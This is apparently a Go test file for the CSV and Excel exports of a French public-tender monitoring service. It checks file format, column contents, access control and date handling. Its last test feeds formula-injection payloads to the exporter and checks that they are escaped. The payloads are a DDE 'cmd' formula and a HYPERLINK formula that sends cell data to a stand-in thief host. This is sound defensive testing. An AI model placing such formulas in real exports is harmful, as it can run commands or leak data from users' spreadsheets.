package company_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"parvis/kit/clock"
	"parvis/kit/db/dbtest"
	"parvis/kit/xlsx"
	"parvis/procurement/notice"
	"parvis/procurement/watch"
	"parvis/web/company"
)

// file reads a file as a spreadsheet does.
func (b *browser) file(path string) (name string, rows [][]string) {
	b.t.Helper()
	w := b.download(path)
	if w.Code != 200 || w.Header().Get("Content-Type") != "text/csv; charset=utf-8; header=present" || w.Header().Get("Cache-Control") != "no-store" {
		b.t.Fatalf("%s: %d %v", path, w.Code, w.Header())
	}
	content, marked := bytes.CutPrefix(w.Body.Bytes(), []byte("\xef\xbb\xbf"))
	if !marked {
		b.t.Error("the file has no mark of UTF-8: Excel reads another alphabet")
	}
	r := csv.NewReader(bytes.NewReader(content))
	r.Comma = ';'
	rows, err := r.ReadAll()
	b.must(err)
	_, name, _ = strings.Cut(w.Header().Get("Content-Disposition"), `filename="`)
	return strings.TrimSuffix(name, `"`), rows
}

func TestTheFileHasAllThatTheListHas(t *testing.T) {
	each(t, func(t *testing.T, p *platform) {
		p.record(numbered(230, "Menuiserie")...)
		p.record(call{id: "26-1", title: "Menuiserie ; \"gymnase\"\nde Barr", buyer: "Commune de Barr", siret: "21670462700019", reference: "2026-T-041", departments: []string{"974"},
			deadline: time.Date(2026, 12, 1, 16, 0, 0, 0, clock.Paris), lots: []notice.Lot{{Number: "1", Title: "Gros œuvre"}, {Number: "2", Title: "Menuiseries bois"}}})
		p.recordFrom(notice.SourceTED, call{id: "500-2026", title: "Menuiserie ; \"gymnase\"\nde Barr", buyer: "Commune de Barr", departments: []string{"974"},
			deadline: time.Date(2026, 12, 1, 16, 0, 0, 0, clock.Paris)})
		odile := p.join(muller, "odile")
		w := odile.watch(watch.Form{Name: "Bois & Cie !", Keywords: "menuiserie", Active: true})
		odile.post(tags+p.idOf("26-1"), url.Values{"etiquette": {"on_y_va"}, "note": {"Visite le 3.\r\nÀ chiffrer"}})
		name, rows := odile.file(watchesPage + "/marches.csv?taille=10&page=2")
		if name != "marches-2026-11-24.csv" || len(rows) != 232 {
			t.Errorf("%s: %d rows", name, len(rows))
		}
		got := map[string]string{}
		for i, head := range rows[0] {
			got[head] = rows[1][i]
		}
		want := map[string]string{
			"Organisme": "Commune de Barr", "SIREN": "216 704 627", "Référence": "2026-T-041", "Objet": "Menuiserie ; \"gymnase\"\nde Barr", "Lots qui correspondent": "lot 2, Menuiseries bois",
			"Nombre de lots": "2", "Départements": "La Réunion (974)", "Codes CPV": "", "Procédure": "", "Nature": "", "Date de publication": "20/11/2026",
			"Date limite": "01/12/2026 19:00", "Heure légale": "La Réunion", "Jours restants": "7", "Visite obligatoire": "", "Questions jusqu'au": "",
			"Veilles": "Bois & Cie !", "Pourquoi": "veille «\u00a0Bois & Cie !\u00a0», sur «\u00a0menuiserie\u00a0»", "Étiquette": "on y va",
			"Étiquette posée par": "Odile Muller, le 24/11/2026", "Notes": "Odile Muller\u00a0: Visite le 3.\nÀ chiffrer", "Doublon probable": "JOUE n° 500-2026",
			"Source": "BOAMP n° 26-1", "Lien": "https://parvis.example/annonces/" + p.idOf("26-1"),
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Error(diff)
		}
		if name, rows = odile.file(watchesPage + "/marches.csv?etiquette=on_y_va&veille=" + w.ID); name != "marches-bois-cie-2026-11-24.csv" || len(rows) != 2 {
			t.Errorf("%s: %d rows", name, len(rows))
		}
	})
}

func TestTheFileIsOnesOwn(t *testing.T) {
	each(t, func(t *testing.T, p *platform) {
		p.record(call{id: "26-1", title: "Menuiserie"})
		odile, zoe := p.join(muller, "odile"), p.join(another, "zoe")
		w := odile.watch(watch.Form{Name: "Bois", Keywords: "menuiserie", Active: true})
		if page := zoe.get(watchesPage + "/marches.csv?veille=" + w.ID); page.status != 404 || strings.Contains(page.text(), "Bois") {
			t.Errorf("another company: %d", page.status)
		}
		if _, rows := zoe.file(watchesPage + "/marches.csv"); len(rows) != 1 {
			t.Errorf("another company reads %d rows", len(rows)-1)
		}
		if page := p.visitor().get(watchesPage + "/marches.csv"); page.status != 303 {
			t.Errorf("a visitor: %d", page.status)
		}
	})
}

// What a spreadsheet would take for a date, a number or a formula is a text of the workbook;
// what is a date or a number is one, on the clocks of the place.
func TestTheWorkbookHasTheSameAsTheFileAndChangesNothing(t *testing.T) {
	each(t, func(t *testing.T, p *platform) {
		p.record(call{id: "26-1", title: "=1+1 menuiserie", buyer: "Commune de Barr", siret: "21670462700019", reference: "2026-03", departments: []string{"974"},
			deadline: time.Date(2026, 12, 1, 16, 0, 0, 0, clock.Paris), lots: []notice.Lot{{Number: "1", Title: "Gros œuvre"}, {Number: "2", Title: "Menuiseries bois"}}})
		p.record(call{id: "26-2", title: "Menuiserie de l'école", buyer: "Commune de Barr", reference: "0123"})
		p.record(call{id: "26-3", title: "Menuiserie du stade", buyer: "Commune de Barr", reference: "7", impossible: "31/02/2027 12h00"})
		odile := p.join(muller, "odile")
		odile.watch(watch.Form{Name: "Bois", Keywords: "menuiserie", Active: true})
		page := odile.get(watchesPage)
		page.says("Exporter la liste (tableur)", "préférez le fichier tableur : en ouvrant un CSV, ils prennent une référence comme « 2026-03 » pour une date")
		w := odile.download(watchesPage + "/marches.xlsx")
		if w.Code != 200 || w.Header().Get("Content-Type") != xlsx.Kind || w.Header().Get("Content-Disposition") != `attachment; filename="marches-2026-11-24.xlsx"` {
			t.Fatalf("%d %v", w.Code, w.Header())
		}
		book := cellsOf(t, w.Body.Bytes())
		_, rows := odile.file(watchesPage + "/marches.csv")
		if len(book) != 4 || len(rows) != 4 {
			t.Fatalf("%d rows, %d in the CSV", len(book), len(rows))
		}
		for i, row := range rows {
			for j, want := range row {
				got := book[i][string(rune('A'+j))]
				switch head := rows[0][j]; {
				case i == 0 || want == "":
				case head == "Date limite" && want == "01/12/2026 19:00":
					want = "46357.791666666664" // seven o'clock in the evening, in La Réunion
				case head == "Date limite" && want == "24/12/2026 10:00":
					want = "46380.416666666664"
				case head == "Date de publication" && want == "20/11/2026":
					want = "46346"
				}
				if want = strings.TrimPrefix(want, "'"); got != want {
					t.Errorf("row %d, %s: %q, want %q", i, rows[0][j], got, want)
				}
			}
		}
		if book[1]["C"] != "2026-03" || book[1]["D"] != "=1+1 menuiserie" || book[2]["C"] != "0123" {
			t.Errorf("%v", book)
		}
		for i, head := range rows[0] {
			if got := book[3][string(rune('A'+i))]; head == "Date limite" && (rows[3][i] != "à vérifier dans l'avis, qui écrit «\u00a031/02/2027 12h00\u00a0»" || got != rows[3][i]) ||
				(head == "Heure légale" || head == "Jours restants") && rows[3][i]+got != "" {
				t.Errorf("an impossible deadline, %s: %q, %q in the workbook", head, rows[3][i], got)
			}
		}
		if page := p.visitor().get(watchesPage + "/marches.xlsx"); page.status != 303 {
			t.Errorf("a visitor: %d", page.status)
		}
	})
}

// cellsOf reads the cells of a workbook, row by row, by the letter of their column.
func cellsOf(t *testing.T, file []byte) (rows []map[string]string) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	var sheet struct {
		Rows []struct {
			Cells []struct {
				Place string `xml:"r,attr"`
				Value string `xml:"v"`
				Text  string `xml:"is>t"`
			} `xml:"c"`
		} `xml:"sheetData>row"`
	}
	if err := xml.NewDecoder(f).Decode(&sheet); err != nil {
		t.Fatal(err)
	}
	for _, r := range sheet.Rows {
		row := map[string]string{}
		for _, c := range r.Cells {
			row[strings.TrimRight(c.Place, "0123456789")] = c.Value + c.Text
		}
		rows = append(rows, row)
	}
	return rows
}

// A notice must not make a spreadsheet compute: anybody may publish one.
func TestNoCellIsAFormula(t *testing.T) {
	for typed, want := range map[string]string{
		"=1+1": "'=1+1", "+33 1": "'+33 1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\n=1", "\n=1": "'\n=1", " =1": "' =1",
		"\u00a0=1": "'\u00a0=1", "\u200b=1": "'\u200b=1", "\x00=1": "'\x00=1", "＝1+1": "'＝1+1", "\tmot": "'\tmot", "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
		"": "", "Menuiserie": "Menuiserie", "a=b": "a=b", "« - »": "« - »", "12/12/2026 12:00": "12/12/2026 12:00", "ligne 1\r\nligne 2": "ligne 1\nligne 2",
	} {
		if got := company.Cell(typed); got != want {
			t.Errorf("%q: %q, want %q", typed, got, want)
		}
	}
	each(t, func(t *testing.T, p *platform) {
		const formula = `=HYPERLINK("https://voleur.example/?"&A2;"Menuiserie")`
		p.record(call{id: "26-1", title: formula, buyer: "@SUM(1)", reference: "+1", deadline: dbtest.Start.AddDate(0, 0, 3), lots: []notice.Lot{{Number: "=1", Title: "-menuiserie"}}})
		odile := p.join(muller, "odile")
		odile.watch(watch.Form{Name: "=Bois", Keywords: "menuiserie", Active: true})
		odile.post(tags+p.idOf("26-1"), url.Values{"etiquette": {"on_y_va"}, "note": {"=1+1"}})
		_, rows := odile.file(watchesPage + "/marches.csv")
		for i, one := range rows[1] {
			if strings.ContainsAny(one[:min(1, len(one))], "=+-@\t\r\n") {
				t.Errorf("%s is a formula: %q", rows[0][i], one)
			}
		}
		if rows[1][3] != "'"+formula {
			t.Errorf("%q", rows[1][3])
		}
	})
}
